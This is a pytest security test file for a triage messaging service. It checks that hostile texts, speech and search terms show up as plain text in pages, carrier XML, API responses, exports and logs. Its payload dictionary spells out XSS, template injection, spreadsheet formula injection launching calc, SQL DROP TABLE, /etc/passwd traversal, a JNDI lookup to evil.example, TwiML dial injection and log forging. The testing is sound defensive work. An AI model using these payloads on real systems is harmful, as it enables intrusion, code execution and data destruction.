"""What a stranger writes is text wherever it appears: pages, search, API, logs, alarms, and what we send on."""

import json
import re
import unicodedata
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest

from tests.attacks.forging import Attacker, Browser, sid
from tests.journeys.conftest import CREW_LINE, Colleague, Town
from triage import export, own_record
from triage.db import utcnow

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image-handler": "<img src=x onerror=alert(1)>",
    "svg-handler": "<svg/onload=alert(1)>",
    "closes-the-tag": "</p></li></ul><h1>Service closed</h1><ul>",
    "closes-an-attribute": "\" onmouseover=\"alert(1)\" x='",
    "closes-a-comment": "--><script>alert(1)</script><!--",
    "script-link": "<a href='javascript:alert(1)'>help</a>",
    "another-host": "<img src='//evil.example/x.png'><link rel=stylesheet href=//evil.example/x.css>",
    "htmx-attribute": "<div hx-get='/sign-out' hx-trigger='load'></div>",
    "form": "<form action=//evil.example><input name=csrf_token></form>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "template": "{{7*7}}{% for x in range(9) %}x{% endfor %}{{ config.SECRET_KEY }}",
    "format-string": "{0.__class__} %s %(x)s ${7*7} #{7*7}",
    "formula": '=HYPERLINK("//evil.example","click")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "right-to-left": "call \u202e321 009 007 7\u202c now",
    "isolates": "\u2066\u2067\u2069 hidden \u200b\u200f\ufeff",
    "control-characters": "bell \x07 escape \x1b[2J\x1b]0;title\x07 back\x08\x08",
    "line-breaks": "hello\r\n{\"level\": \"info\", \"event\": \"forged\"}\r\nSet-Cookie: a=b",
    "nul": "before\x00after",
    "xml-end": "]]></Message></Response><Response><Dial>+447700900199</Dial></Response>",
    "xml-entity": "&lt;Dial&gt; &amp; &#x3c;Dial&#x3e; &evil;",
    "sql": "'); DROP TABLE contact; --",
    "path": "../../../../etc/passwd",
    "lookup": "${jndi:ldap://evil.example/a}",
    "very-long": "a" * 1600,
    "combining": "Z" + "\u0351" * 300,
    "surrogates": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \ufffe\uffff",
}  # fmt: skip


class Seen(HTMLParser):
    """What a browser would make of a page: its tags with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def does_nothing_of_theirs(self) -> None:
        for tag, attributes in self.tags:
            assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
            for value in attributes.values():
                assert "evil.example" not in (value or ""), (tag, attributes)
                assert not (value or "").strip().lower().startswith("javascript:"), (tag, attributes)
            if tag == "script":
                assert attributes.get("nonce") or str(attributes.get("src", "")).startswith("/static/"), attributes
            assert tag not in ("iframe", "object", "embed", "base"), tag
            assert not (tag == "meta" and "http-equiv" in attributes), attributes


@pytest.fixture(scope="module")
def isla(town: Town) -> Colleague:
    return town.colleague("isla@example.org")


@pytest.fixture(scope="module")
def browser(attacker: Attacker) -> Browser:
    return Browser(attacker, "isla@example.org")


def kept(text: str) -> str:
    """What is kept of a text: all but control characters, which change how the words around them are read."""
    return "".join(sign for sign in text if sign in "\t\r\n" or unicodedata.category(sign) not in ("Cc", "Cs"))


def plain(text: str) -> str:
    return re.sub(r"\s+", " ", kept(text)).strip()


@pytest.fixture(scope="module")
def texted(attacker: Attacker) -> dict[str, Any]:
    """One conversation for each, from a number of its own."""
    found = {}
    for number, (name, body) in enumerate(HOSTILE.items()):
        answer = attacker.texts(body, f"+4477009006{number:02d}")
        assert answer.status == 200, name
        found[name] = (attacker.texter(kept(body)), answer)
    return found


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_is_text_on_the_record(browser: Browser, texted: dict[str, Any], name: str) -> None:
    """Texts markup, code or marks: the record shows the letters, and its page has no tag or attribute of theirs."""
    contact, _ = texted[name]
    page = browser.get(f"/contacts/{contact.id}")
    assert page.status == 200
    seen = Seen(page.body)
    seen.does_nothing_of_theirs()
    assert plain(HOSTILE[name]) in plain(seen.text)
    assert "49" not in re.findall(r"\b49\b", seen.text) or name != "template"
    policy = page.headers["Content-Security-Policy"]
    assert "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_is_text_in_our_answer_to_it(texted: dict[str, Any], name: str) -> None:
    """Hopes to be quoted in our markup for the carrier: the answer is well formed and says and dials nothing of theirs."""
    _, answer = texted[name]
    root = ElementTree.fromstring(answer.body)
    assert {node.tag for node in root.iter()} <= {"Response", "Message"}
    assert "alert(1)" not in answer.body
    assert "evil.example" not in answer.body


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_is_a_string_in_the_api(isla: Colleague, texted: dict[str, Any], name: str) -> None:
    """Hopes to break out of JSON, or to have it shown as a page."""
    contact, _ = texted[name]
    answer = isla.stack.api("GET", f"/contacts/{contact.id}", isla.token)
    assert kept(HOSTILE[name]) in [message["body"] for message in answer.json()["messages"]]
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_is_text_in_the_record_handed_to_the_person(
    attacker: Attacker, texted: dict[str, Any], name: str
) -> None:
    """Asks for their own record, and has it opened or printed by staff."""
    contact, _ = texted[name]
    with attacker.database.transaction() as db:
        page = own_record.page(own_record.gather(db, contact.number, now=utcnow()))
    seen = Seen(page)
    seen.does_nothing_of_theirs()
    assert plain(HOSTILE[name]) in plain(seen.text)


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_table_is_a_formula(name: str) -> None:
    """Hopes that staff open the export in a spreadsheet."""
    assert not export.harmless(HOSTILE[name]).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("path", ["/desk", "/desk/live", "/board", "/board/live", "/service", "/contacts"])
def test_no_list_runs_anything_of_theirs(browser: Browser, texted: dict[str, Any], path: str) -> None:
    """Fills the queue with such conversations, and waits for staff to open any page."""
    page = browser.get(path)
    assert page.status == 200
    Seen(page.body).does_nothing_of_theirs()
    assert "evil.example" not in page.body


@pytest.mark.parametrize(
    "term", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "' or '1'='1"]
)
@pytest.mark.parametrize("field", ["number", "keyword", "locality"])
def test_a_search_shows_its_own_term_as_text(browser: Browser, field: str, term: str) -> None:
    """Sends staff a term to search for."""
    answer = browser.post("/contacts", **{field: term})
    assert answer.status in (200, 422)
    Seen(answer.body).does_nothing_of_theirs()


@pytest.mark.parametrize(
    "speech", ["<script>alert(1)</script>", "</Say><Dial>+447700900199</Dial><Say>", "{{7*7}}", "\x00\x07", "&evil;"]
)
def test_spoken_words_are_never_said_back_as_markup(attacker: Attacker, speech: str) -> None:
    """Has the carrier's speech recogniser hear markup."""
    _, call = attacker.rings()
    contact: Any = attacker.contact_of(call)
    answer = attacker.posts(f"/voice/contacts/{contact.id}/turns/0", attacker.form(CallSid=call, SpeechResult=speech))
    root = ElementTree.fromstring(answer.body)
    assert {node.tag for node in root.iter()} <= {"Response", "Say", "Gather", "Redirect", "Enqueue", "Pause", "Hangup"}
    assert "alert(1)" not in answer.body


@pytest.mark.parametrize("body", ["<script>alert(1)</script>", "\u202e1 01", "=cmd()", "</Message><Dial>1</Dial>"])
def test_what_a_crew_writes_is_text_too(town: Town, attacker: Attacker, browser: Browser, body: str) -> None:
    """Has a crew's phone, and writes what is no answer."""
    answer = attacker.texts(body, town.crew("PO01").number, To=CREW_LINE)
    assert {node.tag for node in ElementTree.fromstring(answer.body).iter()} <= {"Response", "Message"}
    Seen(browser.get("/board").body).does_nothing_of_theirs()


def test_every_log_line_is_one_json_object_and_quotes_nobody(
    town: Town, attacker: Attacker, texted: dict[str, Any]
) -> None:
    """Writes line breaks and forged log lines, and puts markup into ids, addresses and headers."""
    attacker.sends("GET", "/contacts/%0d%0a%7b%22event%22:%22forged%22%7d")
    attacker.sends("GET", "/nothing", headers={"User-Agent": '"}\t{"event": "forged"', "Referer": "alert(1)"})
    attacker.posts("/voice/contacts/alert(1)/join", attacker.form())
    attacker.posts("/sms/status?message=alert(1)", attacker.form(MessageSid=sid("SM"), ErrorCode="alert(1)"))
    for line in town.stack.logs():
        assert "unparsed" not in line, line
        assert line.get("event") != "forged"
        for told in ("evil.example", "DROP TABLE", "hidden", "7009006", "onerror"):
            assert told not in json.dumps(line), line
